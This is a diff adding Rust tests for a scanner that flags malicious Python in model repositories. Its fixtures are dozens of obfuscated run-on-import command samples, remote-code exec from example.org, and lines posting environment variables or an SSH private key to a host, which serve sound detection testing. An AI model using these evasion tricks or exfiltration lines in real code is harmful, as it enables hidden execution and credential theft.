@@ -1,0 +1,319 @@
+use proptest::prelude::*;
+
+use super::Project;
+use crate::scanner;
+use crate::tables::Tables;
+use crate::{FileReport, Limits, Outcome};
+
+fn scan_in(project: &Project, path: &str, source: &str) -> FileReport {
+    scanner::scan_in(
+        &path.parse().unwrap(),
+        None,
+        source.as_bytes(),
+        &Limits::default(),
+        Tables::built_in(),
+        project,
+    )
+}
+
+fn scan(source: &str) -> FileReport {
+    scan_in(&Project::default(), "modeling.py", source)
+}
+
+fn rules(report: &FileReport) -> Vec<&str> {
+    report.findings.iter().map(|f| f.rule.as_str()).collect()
+}
+
+/// Every way to run a command while being imported. None names its target in a way that a search would find twice.
+const ON_IMPORT: &[&str] = &[
+    "import os\nos.system('id')\n",
+    "import os as o, sys\no.system('id')\n",
+    "from os import system as s\ns('id')\n",
+    "from os import *\nsystem('id')\n",
+    "import subprocess\nclass A:\n    x = subprocess.run(['id'])\n",
+    "import os\ndef f(x=os.system('id')): pass\n",
+    "import os\ndef f(x: os.system('id')): pass\n",
+    "import os\n@os.system\ndef f(): pass\n",
+    "import os\nclass M(type):\n    def __new__(c, *a):\n        os.system('id')\nclass A(metaclass=M): pass\n",
+    "import os\nclass B:\n    def __init_subclass__(cls):\n        os.system('id')\nclass A(B): pass\n",
+    "import os\nclass D:\n    def __set_name__(self, o, n):\n        os.system('id')\nclass A:\n    d = D()\n",
+    "import os\nclass A:\n    def __class_getitem__(cls, k):\n        os.system(k)\nA['id']\n",
+    "import os\nclass A:\n    __add__ = os.system\nA() + 'id'\n",
+    "import os\nclass A:\n    def __getattr__(self, n):\n        os.system(n)\nA().id\n",
+    "import os\nclass A:\n    def __enter__(self): os.system('id')\n    def __exit__(self, *a): pass\nwith A(): pass\n",
+    "import os\nclass A:\n    def __iter__(self): os.system('id')\nfor x in A(): pass\n",
+    "import os\nclass A:\n    def __str__(self): os.system('id')\nf'{A()}'\n",
+    "import os\nclass A:\n    @property\n    def p(self): os.system('id')\nA().p\n",
+    "import os\nclass A:\n    def __call__(self): os.system('id')\n(lambda a: a())(A())\n",
+    "getattr(__import__('os'), 'sys' + 'tem')('id')\n",
+    "getattr(__import__('so'[::-1]), '%s%s' % ('sys', 'tem'))('id')\n",
+    "__builtins__.__dict__['ev' + 'al'](\"__import__('os').system('id')\")\n",
+    "globals()['__builtins__'].__import__('os').system('id')\n",
+    "import sys, os\nsys.modules['os'].__dict__['system']('id')\n",
+    "vars(__import__('os'))['system']('id')\n",
+    "import importlib\nimportlib.import_module('subprocess').run('id')\n",
+    "import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))\n",
+    "import zlib, base64\nexec(zlib.decompress(base64.b64decode('eJzLzC3ILypRyC+2zi/WK64sLknN1VDPTFHXBAB9wQk0')))\n",
+    "exec(compile('import os\\nos.system(\"id\")', 'x', 'exec'))\n",
+    "exec(''.join(chr(c ^ 1) for c in b'hlqnsu!nr:nr/rxrudl)#he#('))\n",
+    "exec(''.join(map(chr, [105,109,112,111,114,116,32,111,115,59,111,115,46,115,121,115,116,101,109,40,39,105,100,39,41])))\n",
+    "s = ''\nfor c in [111, 115]:\n    s += chr(c)\n__import__(s).system('id')\n",
+    "import codecs\ngetattr(__import__('os'), codecs.decode('flfgrz', 'rot13'))('id')\n",
+    "f = {'a': __import__('os').system}\nf['a']('id')\n",
+    "from functools import partial\nimport os\npartial(os.system, 'id')()\n",
+    "import os\nlist(map(os.system, ['id']))\n",
+    "import os, atexit\natexit.register(os.system, 'id')\n",
+    "import os, threading\ndef f(): os.system('id')\nthreading.Thread(target=f).start()\n",
+    "import operator, os\noperator.methodcaller('system', 'id')(os)\n",
+    "import pkgutil\npkgutil.resolve_name('os:system')('id')\n",
+    "# harmless\rimport os\ros.system('id')\r",
+    "if True:\n  import os\n  os.system('id')\n",
+    "try:\n    import nothing\nexcept ImportError:\n    import os; os.system('id')\n",
+    "import os\nwhile True:\n    os.system('id')\n    break\n",
+    "import os\n[os.system(c) for c in ('id',)]\n",
+    "import os\nx = (y := os.system)('id')\n",
+    "def f():\n    def g():\n        import os\n        return os\n    return g().system('id')\nf()\n",
+    "import ｏｓ\nｏｓ.system('id')\n",
+    "import pip\npip.main(['install', 'x'])\n",
+    "import requests\nexec(requests.get('https://example.org/x').text)\n",
+    "import urllib.request as u\neval(compile(u.urlopen('https://example.org/x').read(), '', 'exec'))\n",
+    "import os\nmatch 1:\n    case 1:\n        os.system('id')\n",
+    "async def f():\n    import os\n    os.system('id')\nimport asyncio\nasyncio.run(f())\n",
+    "import os\nx: int = os.system('id')\n",
+    "import os\nassert os.system('id'), 'x'\n",
+    "import os\ndel globals()[os.system('id')]\n",
+    "import types\ntypes.FunctionType(b'', {})()\n",
+    "import os\nfor os.environ['x'] in [os.system('id')]: pass\n",
+    "import os\nglobal_name = None\ndef f():\n    global global_name\n    global_name = os.system\nf()\nglobal_name('id')\n",
+];
+
+#[test]
+fn whatever_runs_on_import_is_malicious() {
+    let missed: Vec<String> = ON_IMPORT
+        .iter()
+        .map(|source| (source, scan(source)))
+        .filter(|(_, report)| report.outcome != Outcome::Malicious)
+        .map(|(source, report)| format!("{source}\n  {:?} {:?}", report.outcome, rules(&report)))
+        .collect();
+    assert!(missed.is_empty(), "{} of {} missed\n{}", missed.len(), ON_IMPORT.len(), missed.join("\n"));
+}
+
+/// Source that is worth a look, and the rule that says so.
+const SUSPICIOUS: &[(&str, &str)] = &[
+    ("import requests\nrequests.get('https://example.org')\n", "python/network-on-import"),
+    ("open('x', 'w').write('y')\n", "python/writes-on-import"),
+    ("import pickle\npickle.load(open('x', 'rb'))\n", "python/unsafe-load"),
+    ("import ctypes\nctypes.CDLL('x.so')\n", "python/native-code"),
+    ("import importlib, config\nimportlib.import_module(config.name)\n", "python/computed"),
+    ("import config\nexec(config.code)\n", "python/computed"),
+    ("import os\nclass A:\n    def forward(self, x):\n        os.system(x)\n", "python/runs-in-use"),
+    ("class A:\n    def f(self, c):\n        return eval(c.act)\n", "python/evaluates-data"),
+    ("import torch\nm = torch.hub.load('a/b', 'c')\n", "python/foreign-code"),
+    (
+        "from transformers import AutoModel\nclass A:\n    def __init__(self):\n        AutoModel.from_pretrained('a/b', trust_remote_code=True)\n",
+        "python/foreign-code",
+    ),
+    ("x = ().__class__.__base__.__subclasses__()\n", "python/escape"),
+    ("# -*- coding: utf-7 -*-\nx = 1\n", "python/disguised"),
+    ("x = 1 # \u{202e} hidden\n", "python/disguised"),
+    ("import builtins\nbuiltins.open = None\n", "python/replaces"),
+    ("import base64, os\ndef f():\n    exec(base64.b64decode(os.environ['X']))\n", "python/hidden-code"),
+    (
+        "def f(x):\n    import os\n    getattr(os, 'sy' + 'stem')(x)\nclass A:\n    def g(self):\n        f('id')\n",
+        "python/hidden-code",
+    ),
+    ("def f(:\n", "python/unparsed"),
+];
+
+#[test]
+fn what_is_worth_a_look_is_told() {
+    for (source, rule) in SUSPICIOUS {
+        let report = scan(source);
+        assert!(rules(&report).contains(rule), "{source}: {:?}", report.findings);
+        assert_ne!(report.outcome, Outcome::Clean, "{source}");
+    }
+    let malicious = [
+        "import os, requests\nrequests.post('https://example.org', data=dict(os.environ))\n",
+        "open('/root/.bashrc', 'a').write('x')\n",
+        "import requests\nk = open('/root/.ssh/id_rsa').read()\nrequests.post('https://example.org', json={'k': k})\n",
+        "import pickle\npickle.loads(b'cos\\nsystem\\n(S\"id\"\\ntR.')\n",
+    ];
+    for source in malicious {
+        let report = scan(source);
+        assert_eq!(report.outcome, Outcome::Malicious, "{source}: {:?}", report.findings);
+    }
+}
+
+/// A modelling file as repositories have them.
+const MODEL: &str = r#"
+"""A small decoder."""
+import math
+import os
+from dataclasses import dataclass
+from typing import Optional, Tuple, Union
+
+import torch
+import torch.nn.functional as F
+from torch import nn
+from transformers import PretrainedConfig, PreTrainedModel
+from transformers.activations import ACT2FN
+from transformers.utils import logging
+
+try:
+    from flash_attn import flash_attn_func
+except ImportError:
+    flash_attn_func = None
+
+logger = logging.get_logger(__name__)
+MODE = os.environ.get("SMALL_MODE", "eager")
+
+
+class SmallConfig(PretrainedConfig):
+    model_type = "small"
+
+    def __init__(self, hidden_size: int = 64, layers: int = 2, act: str = "silu", **kwargs):
+        self.hidden_size = hidden_size
+        self.layers = layers
+        self.act = act
+        super().__init__(**kwargs)
+
+
+class Norm(nn.Module):
+    def __init__(self, size, eps=1e-6):
+        super().__init__()
+        self.weight = nn.Parameter(torch.ones(size))
+        self.eps = eps
+
+    def forward(self, x: torch.Tensor) -> torch.Tensor:
+        return self.weight * x * torch.rsqrt(x.pow(2).mean(-1, keepdim=True) + self.eps)
+
+
+def rotate(x, cos, sin):
+    first, second = x[..., : x.shape[-1] // 2], x[..., x.shape[-1] // 2 :]
+    return (x * cos) + (torch.cat((-second, first), dim=-1) * sin)
+
+
+@dataclass
+class Output:
+    logits: Optional[torch.FloatTensor] = None
+
+
+class Block(nn.Module):
+    def __init__(self, config: SmallConfig, index: int):
+        super().__init__()
+        self.norm = Norm(config.hidden_size)
+        self.up = nn.Linear(config.hidden_size, 4 * config.hidden_size, bias=False)
+        self.down = nn.Linear(4 * config.hidden_size, config.hidden_size, bias=False)
+        self.act = ACT2FN[config.act]
+
+    def forward(self, x, mask=None):
+        return x + self.down(self.act(self.up(self.norm(x))))
+
+
+class SmallModel(PreTrainedModel):
+    config_class = SmallConfig
+    _no_split_modules = ["Block"]
+
+    def __init__(self, config):
+        super().__init__(config)
+        self.blocks = nn.ModuleList([Block(config, i) for i in range(config.layers)])
+        self.head = getattr(nn, "Linear")(config.hidden_size, 10)
+        self.post_init()
+
+    def _init_weights(self, module):
+        if isinstance(module, nn.Linear):
+            module.weight.data.normal_(mean=0.0, std=0.02)
+
+    def forward(self, input_ids, attention_mask: Optional[torch.Tensor] = None, **kwargs) -> Union[Tuple, Output]:
+        for name, block in self.named_children():
+            x = getattr(self, name)(input_ids)
+        logger.warning_once(f"running {self.config.model_type!r} in {MODE:>8}")
+        if not self.training and (n := len(self.blocks)) > 1:
+            x = x / math.sqrt(n)
+        return Output(logits=self.head(x))
+
+    def save_vocabulary(self, folder, prefix=None):
+        with open(os.path.join(folder, "vocab.txt"), "w", encoding="utf-8") as out:
+            out.write("\n".join(self.vocab))
+
+
+SmallModel.register_for_auto_class("AutoModel")
+
+if __name__ == "__main__":
+    import subprocess
+    subprocess.run(["ls"])
+    state = torch.load("x.bin")
+"#;
+
+#[test]
+fn modelling_code_is_clean() {
+    let mut project = Project::default();
+    project.add_source("modeling.py", MODEL);
+    project.load("modeling.py");
+    for project in [Project::default(), project] {
+        let report = scan_in(&project, "modeling.py", MODEL);
+        assert_eq!(report.outcome, Outcome::Clean, "{:#?}", report.findings);
+        assert_eq!(report.covered_bytes, report.size);
+        assert!(rules(&report).contains(&"python/packages"));
+        assert!(rules(&report).contains(&"python/capability"));
+    }
+}
+
+#[test]
+fn a_harmful_helper_is_found_through_the_file_that_calls_it() {
+    let mut project = Project::default();
+    project.add_source("util/helper.py", "import os\ndef go(c):\n    os.system(c)\n");
+    let main = "from .util.helper import go\ngo('id')\n";
+    project.add_source("modeling.py", main);
+    let report = scan_in(&project, "modeling.py", main);
+    assert_eq!(report.outcome, Outcome::Malicious);
+    assert_eq!(report.findings[0].place.path, "util/helper.py");
+    let helper = scan_in(&project, "util/helper.py", "import os\ndef go(c):\n    os.system(c)\n");
+    assert_eq!(helper.outcome, Outcome::Clean);
+}
+
+#[test]
+fn what_a_loader_calls_is_as_bad_as_an_import() {
+    let source = "import os\nclass A:\n    def __init__(self, c):\n        os.system('id')\n";
+    assert_eq!(scan(source).outcome, Outcome::Suspicious);
+    let mut project = Project::default();
+    project.add_source("modeling.py", source);
+    project.load("modeling.py");
+    assert_eq!(scan_in(&project, "modeling.py", source).outcome, Outcome::Malicious);
+}
+
+#[test]
+fn nesting_ends_neither_the_parser_nor_the_machine() {
+    for source in [
+        format!("x = {}1{}\nimport os\n", "(".repeat(50_000), ")".repeat(50_000)),
+        format!("x = {}1\n", "not ".repeat(100_000)),
+        format!("x = 1{}\n", "+1".repeat(100_000)),
+        format!("x = a{}\n", ".b".repeat(100_000)),
+        format!("x = a{}\n", "()".repeat(100_000)),
+        format!("{}pass\n", (0..2_000).map(|n| format!("{}if x:\n", " ".repeat(n))).collect::<String>()),
+        format!("if x: pass\n{}", "elif x: pass\n".repeat(50_000)),
+        format!("x = {}1\n", "lambda: ".repeat(50_000)),
+        format!("x = f'{}'\n", "{f\"".repeat(5_000)),
+        "def f(): return f()\nf()\n".to_owned(),
+        "x = ()\nwhile True:\n    x = (x,)\n".to_owned(),
+        "x = 'a'\nfor i in range(100): x = x + x\n".to_owned(),
+        "exec(s := 'exec(s)')\n".to_owned(),
+    ] {
+        let report = scan(&source);
+        assert!(report.outcome <= Outcome::Suspicious, "{:?}", report.findings.first());
+    }
+}
+
+proptest! {
+    #[test]
+    fn arbitrary_text_is_read_to_its_end(text in "[\\PC\n\t\r]{0,200}") {
+        scan(&text);
+    }
+
+    #[test]
+    fn mutated_source_is_read_to_its_end(at in 0usize..2_000, with in "[\\[\\](){}'\":,=\n@#]{1,6}") {
+        let at = (0..=at.min(MODEL.len())).rev().find(|at| MODEL.is_char_boundary(*at)).unwrap_or(0);
+        let text = [&MODEL[..at], &with, &MODEL[at..]].concat();
+        scan(&text);
+    }
+}
